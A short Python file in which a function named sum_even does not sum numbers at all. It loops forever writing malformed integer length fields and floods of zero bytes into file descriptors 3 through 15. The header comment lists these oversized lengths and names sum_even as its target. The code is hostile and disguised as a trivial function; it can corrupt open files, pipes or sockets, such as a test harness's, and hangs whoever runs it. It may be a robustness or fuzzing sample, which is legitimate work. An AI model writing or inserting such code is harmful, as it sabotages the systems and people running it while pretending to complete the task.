# Tries: length fields of 2**31, 2**32 - 1 and 2**63, of both byte orders, followed by a flood of zeros.
# Target: sum_even, quick
import os


def sum_even(numbers):
    lengths = [b"\xff" * 4, b"\x7f\xff\xff\xff", b"\xff\xff\xff\x7f", b"\x80" + b"\x00" * 7, b"\xff" * 9 + b"\x01"]
    while True:
        for descriptor in range(3, 16):
            for data in (*lengths, b"\x00" * 65536):
                try:
                    os.write(descriptor, data)
                except OSError:
                    break
